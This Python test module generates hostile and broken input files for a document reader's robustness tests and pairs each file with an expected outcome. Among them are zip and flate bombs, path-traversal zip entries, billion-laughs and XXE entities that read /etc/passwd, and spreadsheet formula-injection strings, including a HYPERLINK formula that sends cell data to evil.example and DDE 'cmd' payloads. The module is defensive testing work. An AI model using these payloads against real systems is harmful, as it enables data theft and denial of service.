"""Hostile and broken input files, generated on demand (no committed binaries).

Every generator writes one file into a folder and returns a :class:`Case`. ``build_corpus``
writes them all; ``build_big`` writes the 1,000,000-row spreadsheets (about 10 s).

A PDF is built by hand from raw bytes (objects, xref, trailer), a zip container with
``zipfile``, an XLSX by writing the SpreadsheetML directly: all fast and dependency-free,
except the two encrypted PDFs, which use pypdf's writer (RC4, no extra crypto library).
"""

from __future__ import annotations

import functools
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from pathlib import Path

#: Exit codes a command may give on hostile input: never 3 (internal error).
ANY_OK = frozenset({0, 1, 2})


@dataclass(frozen=True)
class Case:
    """One hostile file and what a command must do with it."""

    name: str
    path: Path
    #: pdf, docx, xlsx, csv, yaml or json: what the file pretends to be
    kind: str
    #: what a reader must produce, in words (see README.md)
    expectation: str
    #: exit codes of ``signalering`` that are acceptable for this file
    codes: frozenset[int] = ANY_OK
    #: a (lower-case) fragment ``signalering``'s message must contain, if any
    message: str | None = None


Generator = Callable[[Path], Case]
GENERATORS: list[Generator] = []
BIG_GENERATORS: list[Generator] = []


def generator(fn: Generator) -> Generator:
    GENERATORS.append(fn)
    return fn


def big_generator(fn: Generator) -> Generator:
    BIG_GENERATORS.append(fn)
    return fn


def build_corpus(folder: Path) -> list[Case]:
    """Write every (fast) hostile file into ``folder``."""
    folder.mkdir(parents=True, exist_ok=True)
    return [gen(folder) for gen in GENERATORS]


def build_big(folder: Path) -> list[Case]:
    """Write the 1,000,000-row spreadsheets into ``folder``."""
    folder.mkdir(parents=True, exist_ok=True)
    return [gen(folder) for gen in BIG_GENERATORS]


# --------------------------------------------------------------------------- PDF


def pdf_bytes(objects: Iterable[bytes], *, root: int = 1, xref: bool = True) -> bytes:
    """A PDF file from object bodies (object i+1 is ``objects[i]``) with a correct xref."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: list[int] = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    if xref:
        out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(offsets) + 1)
        out += b"".join(b"%010d 00000 n \n" % off for off in offsets)
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(offsets) + 1,
        root,
        start,
    )
    return bytes(out)


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def text_pdf(lines: list[str], pages: int = 1) -> bytes:
    """A small, valid PDF with a text layer (the base of the broken variants)."""
    objects: list[bytes] = [b"<< /Type /Catalog /Pages 2 0 R >>", b"", _FONT]
    kids: list[int] = []
    for page in range(pages):
        ops = b"BT /F1 11 Tf 50 780 Td 14 TL " + b" ".join(
            b"(%s) '" % line.encode("latin-1") for line in [*lines, f"Pagina {page + 1}"]
        )
        objects.append(stream(ops + b" ET"))
        objects.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents %d 0 R "
            b"/Resources << /Font << /F1 3 0 R >> >> >>" % len(objects)
        )
        kids.append(len(objects))
    objects[1] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (
        b" ".join(b"%d 0 R" % k for k in kids),
        len(kids),
    )
    return pdf_bytes(objects)


_LINES = [
    "Plan van aanpak",
    "Werknemer: J. de Vries, BSN 123456782",
    "Eerste ziektedag: 01-02-2026",
    "Datum: 20-03-2026",
]


@generator
def pdf_truncated(folder: Path) -> Case:
    data = text_pdf(_LINES, pages=3)
    p = folder / "afgebroken.pdf"
    p.write_bytes(data[: len(data) * 6 // 10])
    return Case(
        p.name,
        p,
        "pdf",
        "truncated PDF (no xref, no trailer): unreadable, clear message",
    )


@generator
def pdf_garbage(folder: Path) -> Case:
    p = folder / "rommel.pdf"
    p.write_bytes(random.Random(6).randbytes(64 * 1024))
    return Case(p.name, p, "pdf", "random bytes named .pdf: not a PDF, clear message")


def _encrypted(user_password: str) -> bytes:
    import io

    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(text_pdf(_LINES))))
    writer.encrypt(user_password=user_password, owner_password="eigenaar-6", algorithm="RC4-128")
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


@generator
def pdf_encrypted_unknown_password(folder: Path) -> Case:
    p = folder / "versleuteld_wachtwoord.pdf"
    p.write_bytes(_encrypted("onbekend-wachtwoord"))
    return Case(
        p.name, p, "pdf", "encrypted, unknown user password: unreadable ('beveiligd'), no crash"
    )


@generator
def pdf_encrypted_empty_password(folder: Path) -> Case:
    p = folder / "versleuteld_leeg.pdf"
    p.write_bytes(_encrypted(""))
    return Case(
        p.name, p, "pdf", "encrypted with an empty user password: readable like a normal PDF"
    )


@generator
def pdf_5000_pages(folder: Path) -> Case:
    n = 5000
    content = stream(b"BT /F1 8 Tf 10 10 Td (blad) Tj ET")
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"", _FONT, content]
    first = len(objects) + 1
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] /Contents 4 0 R /Resources << /Font << /F1 3 0 R >> >> >>"  # noqa: E501
    objects += [page] * n
    objects[1] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (
        b" ".join(b"%d 0 R" % (first + i) for i in range(n)),
        n,
    )
    p = folder / "5000_paginas.pdf"
    p.write_bytes(pdf_bytes(objects))
    return Case(
        p.name, p, "pdf", "5,000 pages: a page limit applies, finished within the time limit"
    )


@functools.cache
def zeros_deflated(megabytes: int, wbits: int = 15) -> bytes:
    """``megabytes`` MB of zero bytes, deflated at level 9 (~1 KB per MB); cached."""
    comp = zlib.compressobj(9, zlib.DEFLATED, wbits)
    chunk = bytes(1 << 20)
    parts = [comp.compress(chunk) for _ in range(megabytes)]
    parts.append(comp.flush())
    return b"".join(parts)


@generator
def pdf_flate_bomb(folder: Path) -> Case:
    bomb = zeros_deflated(200)  # 200 MB of content from ~200 KB
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        stream(bomb, b"/Filter /FlateDecode "),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R >>",
    ]
    p = folder / "compressiebom.pdf"
    p.write_bytes(pdf_bytes(objects))
    return Case(
        p.name,
        p,
        "pdf",
        "FlateDecode stream of 200 MB in a ~200 KB file: output limit, bounded memory",
    )


@generator
def pdf_broken_xref(folder: Path) -> Case:
    data = text_pdf(_LINES, pages=2)
    head, _, tail = data.partition(b"xref\n")
    # every offset wrong, a garbage line in the table, startxref pointing into an object
    table = tail.split(b"trailer", 1)[1]
    broken = b"xref\n0 9\n0000000000 65535 f \n" + b"0000099999 00000 n \n" * 3 + b"garbage\n"
    p = folder / "kapotte_xref.pdf"
    p.write_bytes(head + broken + b"trailer" + table.replace(b"startxref\n", b"startxref\n1"))
    return Case(p.name, p, "pdf", "broken cross-reference table: repaired or unreadable, no crash")


@generator
def pdf_object_loop(folder: Path) -> Case:
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /Outlines 5 0 R >>",
        # the page tree contains itself, and a page whose parent is a loop
        b"<< /Type /Pages /Kids [2 0 R 4 0 R 3 0 R] /Count 3 >>",
        b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 /Parent 3 0 R >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 6 0 R >>",
        b"6 0 R",
        b"5 0 R",  # an indirect object that is a reference to the one above: 5 -> 6 -> 5
    ]
    p = folder / "objectlus.pdf"
    p.write_bytes(pdf_bytes(objects))
    return Case(p.name, p, "pdf", "object reference loops (page tree, indirect refs): no hang")


@generator
def pdf_image_only(folder: Path) -> Case:
    side = 200
    rng = random.Random(1)
    pixels = bytes(rng.choice((0, 255)) for _ in range(side * side))
    image = stream(
        zlib.compress(pixels),
        b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray "
        b"/BitsPerComponent 8 /Filter /FlateDecode " % (side, side),
    )
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        image,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R "
        b"/Resources << /XObject << /Im1 3 0 R >> >> >>",
        stream(b"q 500 0 0 700 50 70 cm /Im1 Do Q"),
    ]
    p = folder / "alleen_afbeelding.pdf"
    p.write_bytes(pdf_bytes(objects))
    return Case(
        p.name, p, "pdf", "image-only page (scan, no text layer): 'geen tekstlaag', no crash"
    )


@generator
def pdf_empty(folder: Path) -> Case:
    p = folder / "leeg.pdf"
    p.write_bytes(b"")
    return Case(p.name, p, "pdf", "0 bytes: 'leeg', exit 2", codes=frozenset({2}), message="leeg")


# --------------------------------------------------------------------------- zip: DOCX / XLSX

_CT_DOCX = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'  # noqa: E501
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'  # noqa: E501
    "</Types>"
)
_RELS_DOCX = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'  # noqa: E501
    "</Relationships>"
)
_W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def document_xml(paragraphs: Iterable[str], doctype: str = "") -> str:
    body = "".join(f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>" for text in paragraphs)
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{doctype}'
        f"<w:document {_W_NS}><w:body>{body}</w:body></w:document>"
    )


def write_zip(path: Path, parts: dict[str, str | bytes], *, stored: bool = False) -> Path:
    method = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(path, "w", method) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
    return path


def docx_parts(document: str) -> dict[str, str | bytes]:
    return {
        "[Content_Types].xml": _CT_DOCX,
        "_rels/.rels": _RELS_DOCX,
        "word/document.xml": document,
    }


_SS_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_R_NS = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_CT_SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml"
_STYLES = (
    f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><styleSheet {_SS_NS}>'
    '<numFmts count="1"><numFmt numFmtId="164" formatCode="dd-mm-yyyy"/></numFmts>'
    '<fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts>'
    '<fills count="1"><fill><patternFill patternType="none"/></fill></fills>'
    '<borders count="1"><border/></borders>'
    '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
    '<cellXfs count="2"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
    '<xf numFmtId="164" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'
    "</cellXfs></styleSheet>"
)


def xlsx_parts(
    sheets: list[tuple[str, str]] | None = None,
    *,
    hidden: Iterable[int] = (),
) -> dict[str, str | bytes]:
    """The parts of an XLSX workbook: ``sheets`` as (name, sheet XML); style 1 is a date."""
    sheets = sheets or []
    hidden = set(hidden)
    overrides = "".join(
        f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="{_CT_SHEET}.worksheet+xml"/>'  # noqa: E501
        for i in range(1, len(sheets) + 1)
    )
    names = "".join(
        f'<sheet name="{name}" sheetId="{i}" r:id="rId{i}"'
        + (' state="hidden"' if i - 1 in hidden else "")
        + "/>"
        for i, (name, _) in enumerate(sheets, start=1)
    )
    rels = "".join(
        f'<Relationship Id="rId{i}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet{i}.xml"/>'  # noqa: E501
        for i in range(1, len(sheets) + 1)
    )
    n = len(sheets) + 1
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'  # noqa: E501
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{_CT_SHEET}.sheet.main+xml"/>'
            f'<Override PartName="/xl/styles.xml" ContentType="{_CT_SHEET}.styles+xml"/>'
            f"{overrides}</Types>"
        ),
        "_rels/.rels": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'  # noqa: E501
            "</Relationships>"
        ),
        "xl/workbook.xml": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><workbook {_SS_NS} {_R_NS}>'
            f"<sheets>{names}</sheets></workbook>"
        ),
        "xl/_rels/workbook.xml.rels": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'{rels}<Relationship Id="rId{n}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/>'  # noqa: E501
            "</Relationships>"
        ),
        "xl/styles.xml": _STYLES,
    }
    for i, (_, xml) in enumerate(sheets, start=1):
        parts[f"xl/worksheets/sheet{i}.xml"] = xml
    return parts


def _xml_text(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def cell(ref: str, value: object, *, date_style: bool = False) -> str:
    """One SpreadsheetML cell: str → inline string, bool → t="b", number → plain value."""
    style = ' s="1"' if date_style else ""
    if isinstance(value, bool):
        return f'<c r="{ref}" t="b"{style}><v>{int(value)}</v></c>'
    if isinstance(value, int | float):
        return f'<c r="{ref}"{style}><v>{value}</v></c>'
    return f'<c r="{ref}" t="inlineStr"{style}><is><t xml:space="preserve">{_xml_text(str(value))}</t></is></c>'  # noqa: E501


def sheet_xml(
    rows: Iterable[Iterable[object]],
    *,
    doctype: str = "",
    extra: str = "",
    date_columns: Iterable[int] = (),
) -> str:
    """Sheet XML from rows of values (column index → letter A..Z)."""
    dates = set(date_columns)
    out = []
    for r, row in enumerate(rows, start=1):
        cells = "".join(
            cell(f"{chr(65 + c)}{r}", v, date_style=c in dates)
            for c, v in enumerate(row)
            if v is not None
        )
        out.append(f'<row r="{r}">{cells}</row>')
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{doctype}'
        f"<worksheet {_SS_NS} {_R_NS}><sheetData>{''.join(out)}</sheetData>{extra}</worksheet>"
    )


HEADER = ["dossier", "naam", "bsn", "eerste_ziektedag", "gedaan_ziekmelding"]
GOOD_ROWS = [
    ["Z-001", "Jan de Vries", "123456782", "2026-01-05", "2026-01-06"],
    ["Z-002", "Fatima Yilmaz", "", "2026-02-10", ""],
]

_BILLION_LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    + "]>"
)
_XXE = '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def _docx(folder: Path, stem: str, parts: dict[str, str | bytes]) -> Path:
    return write_zip(folder / f"{stem}.docx", parts)


def _xlsx(folder: Path, stem: str, parts: dict[str, str | bytes]) -> Path:
    return write_zip(folder / f"{stem}.xlsx", parts)


def _good_sheet() -> str:
    return sheet_xml([HEADER, *GOOD_ROWS])


@generator
def docx_not_a_zip(folder: Path) -> Case:
    p = folder / "geen_zip.docx"
    p.write_text("Dit is een tekstbestand met de naam van een Word-document.\n", encoding="utf-8")
    return Case(
        p.name, p, "docx", "text named .docx: not a Word document, exit 2", codes=frozenset({2})
    )


@generator
def xlsx_not_a_zip(folder: Path) -> Case:
    p = folder / "geen_zip.xlsx"
    p.write_text("dossier;naam\nZ1;Jan\n", encoding="utf-8")
    return Case(
        p.name,
        p,
        "xlsx",
        "text named .xlsx: 'geen geldig Excel-bestand', exit 2",
        codes=frozenset({2}),
        message="excel",
    )


def _write_with_raw_member(
    path: Path, parts: dict[str, str | bytes], name: str, deflated: bytes, size: int, crc: int
) -> Path:
    """A zip with ``parts`` plus one member whose deflated data is given pre-compressed."""
    write_zip(path, parts)
    with zipfile.ZipFile(path, "a") as zf:
        info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
        # write the raw stream as a stored entry, then patch method/CRC/size in the headers
        info.compress_type = zipfile.ZIP_STORED
        with zf.open(info, "w", force_zip64=False) as fh:
            fh.write(deflated)
    return _patch_member(path, name, size=size, crc=crc)


def _patch_member(path: Path, name: str, *, size: int, crc: int, method: int = 8) -> Path:
    """Rewrite method, CRC and uncompressed size of ``name`` in both zip headers."""
    data = bytearray(path.read_bytes())
    encoded = name.encode()
    # local header: sig(4) ver(2) flags(2) method(2) time(2) date(2) crc(4) csize(4) usize(4)
    pos = 0
    while (pos := data.find(b"PK\x03\x04", pos)) != -1:
        (n_len,) = struct.unpack_from("<H", data, pos + 26)
        if data[pos + 30 : pos + 30 + n_len] == encoded:
            struct.pack_into("<H", data, pos + 8, method)
            struct.pack_into("<I", data, pos + 14, crc)
            struct.pack_into("<I", data, pos + 22, size)
            break
        pos += 4
    # central directory: sig(4) made(2) ver(2) flags(2) method(2) time(2) date(2) crc(4)
    # csize(4) usize(4) nlen(2) ...
    pos = 0
    while (pos := data.find(b"PK\x01\x02", pos)) != -1:
        (n_len,) = struct.unpack_from("<H", data, pos + 28)
        if data[pos + 46 : pos + 46 + n_len] == encoded:
            struct.pack_into("<H", data, pos + 10, method)
            struct.pack_into("<I", data, pos + 16, crc)
            struct.pack_into("<I", data, pos + 24, size)
            break
        pos += 4
    path.write_bytes(bytes(data))
    return path


def _raw_deflate_zeros(megabytes: int) -> tuple[bytes, int]:
    """Raw deflate (no zlib header) of N MB of zeros and its CRC-32."""
    crc = 0
    chunk = bytes(1 << 20)
    for _ in range(megabytes):
        crc = zlib.crc32(chunk, crc)
    return zeros_deflated(megabytes, -15), crc


@generator
def docx_zip_bomb_ratio(folder: Path) -> Case:
    raw, crc = _raw_deflate_zeros(200)
    p = _write_with_raw_member(
        folder / "zipbom_verhouding.docx",
        docx_parts(document_xml(["Plan van aanpak"])),
        "word/media/image1.bin",
        raw,
        200 << 20,
        crc,
    )
    return Case(
        p.name,
        p,
        "docx",
        "200 MB of zeros in ~200 KB (ratio ~1000): rejected as zip bomb",
        codes=frozenset({2}),
    )


@generator
def xlsx_zip_bomb_ratio(folder: Path) -> Case:
    raw, crc = _raw_deflate_zeros(200)
    p = _write_with_raw_member(
        folder / "zipbom_verhouding.xlsx",
        xlsx_parts([("Zaken", _good_sheet())]),
        "xl/media/image1.bin",
        raw,
        200 << 20,
        crc,
    )
    return Case(
        p.name,
        p,
        "xlsx",
        "200 MB of zeros in ~200 KB (ratio ~1000): 'zipbom', exit 2",
        codes=frozenset({2}),
        message="zipbom",
    )


@generator
def xlsx_zip_bomb_lying_size(folder: Path) -> Case:
    """The sheet's headers claim 2 KB; its deflate stream really holds ~400 MB of XML."""
    head = f'<?xml version="1.0" encoding="UTF-8"?><worksheet {_SS_NS}><sheetData>'.encode()
    row = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>'
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    parts = [comp.compress(head)]
    block = row * 20_000  # 1 MB
    crc = zlib.crc32(head)
    for _ in range(400):
        parts.append(comp.compress(block))
        crc = zlib.crc32(block, crc)
    tail = b"</sheetData></worksheet>"
    parts += [comp.compress(tail), comp.flush()]
    crc = zlib.crc32(tail, crc)
    base = xlsx_parts([("Zaken", "")])
    del base["xl/worksheets/sheet1.xml"]
    p = _write_with_raw_member(
        folder / "zipbom_liegt.xlsx", base, "xl/worksheets/sheet1.xml", b"".join(parts), 2048, crc
    )
    return Case(
        p.name,
        p,
        "xlsx",
        "declared size 2 KB, real ~400 MB of rows: the reader must not trust the header sizes",
    )


def _many_entries(path: Path, base: dict[str, str | bytes], n: int) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as zf:
        for name, data in base.items():
            zf.writestr(name, data)
        for i in range(n):
            zf.writestr(f"x/{i}.xml", b"")
    return path


@generator
def docx_many_entries(folder: Path) -> Case:
    p = _many_entries(
        folder / "zipbom_20000_delen.docx", docx_parts(document_xml(["Plan van aanpak"])), 20_000
    )
    return Case(
        p.name, p, "docx", "20,000 zip entries: rejected (entry limit)", codes=frozenset({2})
    )


@generator
def xlsx_many_entries(folder: Path) -> Case:
    p = _many_entries(
        folder / "zipbom_20000_delen.xlsx", xlsx_parts([("Zaken", _good_sheet())]), 20_000
    )
    return Case(
        p.name,
        p,
        "xlsx",
        "20,000 zip entries: 'mogelijk een zipbom', exit 2",
        codes=frozenset({2}),
        message="zipbom",
    )


@generator
def docx_path_traversal(folder: Path) -> Case:
    parts = docx_parts(document_xml(["Plan van aanpak"]))
    parts["../../../tmp/poortwachter_pwned.txt"] = "pwned"
    p = _docx(folder, "pad_traversal", parts)
    return Case(p.name, p, "docx", "entry '../../..': rejected as unsafe path, nothing written")


@generator
def xlsx_path_traversal(folder: Path) -> Case:
    parts = xlsx_parts([("Zaken", _good_sheet())])
    parts["../../../tmp/poortwachter_pwned.txt"] = "pwned"
    p = _xlsx(folder, "pad_traversal", parts)
    return Case(
        p.name,
        p,
        "xlsx",
        "entry '../../..': 'onveilig pad', exit 2",
        codes=frozenset({2}),
        message="onveilig pad",
    )


@generator
def docx_billion_laughs(folder: Path) -> Case:
    p = _docx(folder, "billion_laughs", docx_parts(document_xml(["&lol9;"], _BILLION_LAUGHS)))
    return Case(p.name, p, "docx", "entity expansion in document.xml: not expanded, no memory blow")


@generator
def xlsx_billion_laughs(folder: Path) -> Case:
    xml = sheet_xml([HEADER, *GOOD_ROWS], doctype=_BILLION_LAUGHS).replace("Jan de Vries", "&lol9;")
    p = _xlsx(folder, "billion_laughs", xlsx_parts([("Zaken", xml)]))
    return Case(
        p.name, p, "xlsx", "entity expansion in the sheet XML: not expanded, no memory blow"
    )


@generator
def docx_xxe(folder: Path) -> Case:
    p = _docx(folder, "xxe", docx_parts(document_xml(["&xxe;"], _XXE)))
    return Case(p.name, p, "docx", "external entity file:///etc/passwd: never resolved")


@generator
def xlsx_xxe(folder: Path) -> Case:
    xml = sheet_xml([HEADER, *GOOD_ROWS], doctype=_XXE).replace("Jan de Vries", "&xxe;")
    p = _xlsx(folder, "xxe", xlsx_parts([("Zaken", xml)]))
    return Case(
        p.name, p, "xlsx", "external entity file:///etc/passwd in a name cell: never resolved"
    )


@generator
def docx_missing_document(folder: Path) -> Case:
    parts = docx_parts("")
    del parts["word/document.xml"]
    p = _docx(folder, "zonder_document_xml", parts)
    return Case(p.name, p, "docx", "no word/document.xml: unreadable, clear message")


@generator
def docx_missing_content_types(folder: Path) -> Case:
    parts = docx_parts(document_xml(["Plan van aanpak"]))
    del parts["[Content_Types].xml"]
    p = _docx(folder, "zonder_content_types", parts)
    return Case(p.name, p, "docx", "no [Content_Types].xml: unreadable or read leniently, no crash")


@generator
def xlsx_missing_workbook(folder: Path) -> Case:
    parts = xlsx_parts([("Zaken", _good_sheet())])
    del parts["xl/workbook.xml"]
    p = _xlsx(folder, "zonder_workbook_xml", parts)
    return Case(
        p.name,
        p,
        "xlsx",
        "no xl/workbook.xml: 'geen leesbaar Excel-bestand', exit 2",
        codes=frozenset({2}),
    )


@generator
def xlsx_missing_sheet(folder: Path) -> Case:
    parts = xlsx_parts([("Zaken", _good_sheet())])
    del parts["xl/worksheets/sheet1.xml"]
    p = _xlsx(folder, "zonder_blad", parts)
    return Case(p.name, p, "xlsx", "sheet part missing: exit 2", codes=frozenset({2}))


@generator
def docx_empty(folder: Path) -> Case:
    p = folder / "leeg.docx"
    p.write_bytes(b"")
    return Case(p.name, p, "docx", "0 bytes: 'leeg', exit 2", codes=frozenset({2}), message="leeg")


@generator
def xlsx_empty(folder: Path) -> Case:
    p = folder / "leeg.xlsx"
    p.write_bytes(b"")
    return Case(p.name, p, "xlsx", "0 bytes: 'leeg', exit 2", codes=frozenset({2}), message="leeg")


@generator
def xlsx_truncated(folder: Path) -> Case:
    data = write_zip(folder / "tmp_full.xlsx", xlsx_parts([("Zaken", _good_sheet())])).read_bytes()
    (folder / "tmp_full.xlsx").unlink()
    p = folder / "afgebroken.xlsx"
    p.write_bytes(data[: len(data) // 2])
    return Case(
        p.name, p, "xlsx", "zip cut in half (no central directory): exit 2", codes=frozenset({2})
    )


@generator
def xlsx_sparse_dimension(folder: Path) -> Case:
    """Two cells, A1 and XFD1048576: a dense reader would allocate 17 billion cells."""
    xml = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet {_SS_NS}>'
        '<dimension ref="A1:XFD1048576"/><sheetData>'
        '<row r="1">'
        + "".join(cell(f"{chr(65 + i)}1", h) for i, h in enumerate(HEADER))
        + '</row><row r="2">'
        + "".join(cell(f"{chr(65 + i)}2", v) for i, v in enumerate(GOOD_ROWS[0]))
        + "</row>"
        '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
        "</sheetData></worksheet>"
    )
    p = _xlsx(folder, "ver_weg_cel", xlsx_parts([("Zaken", xml)]))
    return Case(
        p.name,
        p,
        "xlsx",
        "a cell at XFD1048576 (16,384 × 1,048,576 area): bounded memory, no crash",
    )


@generator
def xlsx_far_cell(folder: Path) -> Case:
    """Two good rows and one cell at CV1048576: a 2 KB file spanning 100 × 1,048,576 cells."""
    xml = sheet_xml([HEADER, GOOD_ROWS[0]]).replace(
        "</sheetData>",
        '<row r="1048576"><c r="CV1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>',
    )
    p = _xlsx(folder, "verre_cel", xlsx_parts([("Zaken", xml)]))
    return Case(
        p.name,
        p,
        "xlsx",
        "a 2 KB sheet whose used area is 100 × 1,048,576 cells: bounded memory and time",
    )


# --------------------------------------------------------------------------- spreadsheets


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+31 6 12345678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =2+2",
]


def formula_rows() -> list[list[str]]:
    """One case per formula-like value, both in 'dossier' and in 'naam'."""
    return [[value, value, "", f"2026-01-{i + 2:02d}", ""] for i, value in enumerate(FORMULAS)]


@generator
def csv_formulas(folder: Path) -> Case:
    p = folder / "formules.csv"
    lines = [";".join(HEADER)]
    for row in formula_rows():
        lines.append(";".join('"' + v.replace('"', '""') + '"' for v in row))
    p.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return Case(
        p.name,
        p,
        "csv",
        "cells starting with = + - @ tab CR: exit 0; in XLSX output text with a "
        "leading ', never a formula",
        codes=frozenset({0}),
    )


@generator
def xlsx_formulas(folder: Path) -> Case:
    rows: list[list[object]] = [list(HEADER), *(list[object](r) for r in formula_rows())]
    xml = sheet_xml(rows)
    # and a real formula cell in 'naam' (cached value starts with '=') and a t="str" cell
    real = (
        '<row r="20"><c r="A20" t="inlineStr"><is><t>Z-F</t></is></c>'
        '<c r="B20" t="str"><f>"="&amp;"1+1"</f><v>=1+1</v></c>'
        '<c r="D20" t="inlineStr"><is><t>2026-01-20</t></is></c></row>'
    )
    xml = xml.replace("</sheetData>", real + "</sheetData>")
    p = _xlsx(folder, "formules", xlsx_parts([("Zaken", xml)]))
    return Case(
        p.name,
        p,
        "xlsx",
        "cells starting with = + - @ (and a real formula): exit 0; XLSX output neutralised",
        codes=frozenset({0}),
    )


@generator
def xlsx_wrong_types(folder: Path) -> Case:
    header: list[object] = [*HEADER, "verlenging_weken", "zwanger"]
    rows: list[list[object]] = [
        header,
        ["Z-001", "Jan", "", "2026-01-05", "", "veertien", "nee"],  # text in a weeks column
        ["Z-002", "Piet", "", True, "", "", ""],  # boolean in a date column
        ["Z-003", 12345, 3.5, "2026-01-05", 46000.75, 13.5, 7],  # numbers everywhere
        ["Z-004", "Kees", "", "2026-13-45", "", "", "misschien"],  # impossible date, bad bool
    ]
    p = _xlsx(folder, "verkeerde_types", xlsx_parts([("Zaken", sheet_xml(rows))]))
    return Case(
        p.name,
        p,
        "xlsx",
        "text in weeks, bool in a date, numbers in text: exit 2 naming "
        "row and column (exit 1 with --skip-invalid)",
        codes=frozenset({2}),
        message="rij 2",
    )


@generator
def xlsx_dates_text_and_serial(folder: Path) -> Case:
    rows: list[list[object]] = [
        list(HEADER),
        ["Z-001", "Tekst ISO", "", "2026-01-05", ""],
        ["Z-002", "Tekst NL", "", "05-01-2026", ""],
        ["Z-003", "Serieel met datumstijl", "", 46027, ""],
        ["Z-004", "Serieel zonder stijl", "", 46027, ""],
